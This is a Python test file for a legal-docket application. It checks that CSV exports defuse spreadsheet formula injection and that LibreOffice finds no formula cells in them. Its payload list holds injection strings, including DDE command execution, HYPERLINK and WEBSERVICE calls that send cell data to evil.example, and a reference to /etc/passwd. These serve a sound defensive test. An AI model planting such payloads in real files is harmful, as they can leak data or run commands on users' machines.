"""No text of the record becomes a formula in a spreadsheet, and none is changed by keeping it from that."""

import csv
import io
import re
import subprocess
import unicodedata
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from django.db import connection
from django.http import QueryDict
from hypothesis import given
from hypothesis import strategies as st

from docket.listing.formula_safety import DANGEROUS, as_it_was, neutral_sql
from docket.models import (
    Appearance,
    Capacity,
    Case,
    CaseLink,
    CaseMatter,
    CaseNumber,
    CaseOfficial,
    CaseParty,
    Claim,
    ClaimAgainst,
    ClaimEvent,
    ClaimParty,
    Deadline,
    Document,
    Filing,
    FilingLink,
    FilingParty,
    Forum,
    Hearing,
    Matter,
    MatterParty,
    Source,
)
from docket.site.exports.columns import Kind
from docket.site.exports.copy import csv_of
from docket.site.exports.files import FILES
from parties.models import Attorney, Firm, Party, PartyAlias
from tests.shared import program

FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "|calc",
    "=cmd|'/C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '=WEBSERVICE("http://evil.example/")',
    '=IMPORTXML("http://evil.example/","//a")',
    "=2+5+cmd|' /C calc'!A0",
    '=1+1;"x"',
    '"=1+1"',
    "='file:///etc/passwd'#$passwd.A1",
    "={1+1}",
)
# what may stand before the sign and shows nothing
BEFORE = (" ", "\t", "\r", "\n", "\r\n", "\u200b", "\ufeff", "\u00a0", "\u3000", "\u2060", "  \u200b ", "\x0b")
WIDE = ("＝1+1", "＋1+1", "－1+1", "＠SUM(1+1)", "﹦1+1", "\u22121+1")
REST = (
    *("'=1+1", "''=1+1", "=", "-", "+49 30 123", "-5", "1,=1+1", "a;=1+1", "x\n=1+1", 'x"\n=1+1\n"'),
    *("=1+1\n=2+2", '";=1+1', ",=1+1", "=A1&CHAR(10)", "+A1", "@A1", "-A1", "%=1+1", "\u00ad=1+1", "\u202e=1+1"),
)
PAYLOADS = (
    *FORMULAS,
    *(f"{before}=1+1" for before in BEFORE),
    *(f"{before}+A1" for before in BEFORE[:7]),
    *WIDE,
    *REST,
)


def test_there_are_enough_payloads() -> None:
    assert len(set(PAYLOADS)) >= 60


def neutral(texts: list[str]) -> list[str]:
    with connection.cursor() as cursor:
        cursor.execute(
            f"select {neutral_sql('t')} from unnest(%s::text[]) with ordinality as u(t, n) order by n", [texts]
        )
        return [text for (text,) in cursor.fetchall()]


@pytest.mark.django_db
def test_every_payload_is_led_by_an_apostrophe_and_comes_back_as_it_was() -> None:
    safe = neutral(list(PAYLOADS))
    for payload, text in zip(PAYLOADS, safe, strict=True):
        assert text in (payload, f"'{payload}")
        assert not re.match(r"[\s\u200b\ufeff\u00a0]*[=+\-@|]", text), payload
        assert as_it_was(text) == payload


# the small and the full-width forms, as Unicode names them, and the minus sign
FORM = re.compile("<(wide|small)> 00(3D|2B|2D|40|7C)")
SIGNS = set("=+-@|\t\r\n\u2212").union(
    char for char in map(chr, range(0x10000)) if FORM.fullmatch(unicodedata.decomposition(char))
)


@pytest.mark.django_db
@pytest.mark.parametrize("before", ["", " ", "\u0001", "\u200b", "\ufeff", "'"])
def test_every_form_of_a_sign_is_led_by_an_apostrophe(before: str) -> None:
    texts = [f"{before}{sign}1+1" for sign in sorted(SIGNS)]
    assert len(texts) == 18
    safe = neutral(texts)
    assert safe == [f"'{text}" for text in texts]
    assert [as_it_was(text) for text in safe] == texts


@pytest.mark.django_db
def test_harmless_text_is_left_alone() -> None:
    for text in ("", "Roe v. Poe", "1:23-cv-1", "“quoted”", "¶ 12", "(sealed)", "[1] note", "'Tis", "§ 41-2-1", "Ünal"):
        assert neutral([text]) == [text]
        assert as_it_was(text) == text


text_of_any_kind = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00"), max_size=8)
heads = st.lists(st.sampled_from(["'", "=", "-", " ", "\t", "\u200b", "＝", "x", '"']), max_size=4).map("".join)


@pytest.mark.django_db
@given(texts=st.lists(st.builds(str.__add__, heads, text_of_any_kind), min_size=1, max_size=50))
def test_the_way_back_is_exact_for_any_text(texts: list[str]) -> None:
    safe = neutral(texts)
    assert [as_it_was(text) for text in safe] == texts
    # PostgreSQL and Python agree on what is dangerous
    assert [text != before for text, before in zip(safe, texts, strict=True)] == [
        bool(re.match(DANGEROUS, before)) for before in texts
    ]


class Trap:
    """A case with the payload in every column that people write."""

    def __init__(self, text: str) -> None:
        named = ("name", "short_name", "citation_form", "jurisdiction", "url")
        forum = Forum.objects.create(slug=text[:60], kind="court", **dict.fromkeys(named, text))
        told = ("title", "heading_note", "place", "coverage_note")
        matter = Matter.objects.create(tags=[text[:60]], **dict.fromkeys(told, text))
        Source.objects.create(kind="other", **dict.fromkeys(("title", "publisher", "url"), text))
        columns = ("caption", "caption_short", "docket_number", "docket_number_as_filed", "cause", "demand")
        more = ("nature_of_suit_as_filed", "coverage_note", "jurisdiction_as_filed")
        case = Case.objects.create(
            forum=forum,
            category="civil",
            flags=[text[:60]],
            source_url=text[:500],
            court_case_id=text,
            **dict.fromkeys(columns + more, text),
        )
        CaseMatter.objects.create(case=case, matter=matter)
        CaseNumber.objects.create(case=case, number=text, kind="related")
        CaseOfficial.objects.create(case=case, name=text, role="judge")
        party = Party.objects.create(name=text, sort_name=text, description=text)
        PartyAlias.objects.create(party=party, kind="aka", name=text)
        MatterParty.objects.create(matter=matter, party=party, role="witness", note=text)
        CaseLink.objects.create(from_case=case, kind="related", to_text=text, note=text)
        role = CaseParty.objects.create(
            case=case, party=party, role="plaintiff", role_as_filed=text, name_as_filed=text
        )
        Capacity.objects.create(case_party=role, kind="individually", object=text)
        lawyer, firm = Attorney.objects.create(name=text), Firm.objects.create(name=text)
        Appearance.objects.create(case_party=role, attorney=lawyer, firm=firm)
        written = ("entry_number", "title", "docket_text", "short_text", "court_document_id", "court_sequence")
        filing = Filing.objects.create(case=case, **dict.fromkeys(written, text))
        other = Filing.objects.create(case=case, entry_number=text)
        FilingParty.objects.create(filing=filing, case_party=role)
        FilingLink.objects.create(from_filing=other, to_filing=filing, kind="answers")
        Document.objects.create(filing=filing, title=text, court_document_id=text)
        claim = Claim.objects.create(case=case, label=text, title=text, legal_basis=text, amount_note=text)
        ClaimParty.objects.create(claim=claim, case_party=role)
        against = ClaimAgainst.objects.create(claim=claim, case_party=role)
        ClaimEvent.objects.create(offense=text, claim_against=against, kind="convicted_lesser", note=text)
        day = date(2026, 5, 12)
        Hearing.objects.create(case=case, date=day, **dict.fromkeys(("title", "place", "outcome"), text))
        counted = ("title", "citation", "reason", "rule_version", "calendar_version")
        Deadline.objects.create(
            case=case,
            case_party=role,
            earliest=day,
            latest=day,
            steps=[{"answer": "both", "text": text}],
            notes=[text],
            **dict.fromkeys(counted, text),
        )


# of our own words, or a date or sum that the projection wrote
NEVER_WRITTEN = {"status", "kind_status", "case-parties outcome", "corrections was"}


@pytest.mark.usefixtures("committed")
def test_libreoffice_finds_no_formula_in_any_file(tmp_path: Path) -> None:
    for text in PAYLOADS:
        Trap(text)
    (tmp_path / "control.csv").write_text('"x"\r\n"=1+1"\r\n', encoding="utf-8")
    for file in FILES:
        asked = file.filter(QueryDict(), file.listed())
        assert asked.is_valid()
        data = b"".join(csv_of(file, asked))
        (tmp_path / f"{file.name}.csv").write_bytes(data)
        assert_payloads_stand_in(file, data)
    assert formulas(tmp_path) == {"control": 1, **dict.fromkeys((file.name for file in FILES), 0)}


def assert_payloads_stand_in(file: Any, data: bytes) -> None:
    """The positive control: each column that people write holds all payloads, so that LibreOffice meets them."""
    table = list(csv.DictReader(io.StringIO(data.decode(), newline=""), strict=True))
    for column in file.columns:
        written = not NEVER_WRITTEN & {column.name, f"{file.name} {column.name}"}
        if column.kind == Kind.TEXT and not column.name.endswith("_label") and written:
            found = {as_it_was(row[column.name]) for row in table}
            assert not set(PAYLOADS) - found, (file.name, column.name)


def formulas(folder: Path) -> dict[str, int]:
    """Open every CSV of a folder as LibreOffice does by default; how many formula cells each then has."""
    soffice = program("libreoffice-calc-nogui", "soffice")
    names = sorted(folder.glob("*.csv"))
    subprocess.run(
        [
            soffice,
            f"-env:UserInstallation={(folder / 'profile').as_uri()}",
            *("--headless", "--infilter=CSV:44,34,76,1", "--convert-to", "fods", "--outdir", str(folder)),
            *map(str, names),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    return {name.stem: name.with_suffix(".fods").read_text().count("table:formula=") for name in names}
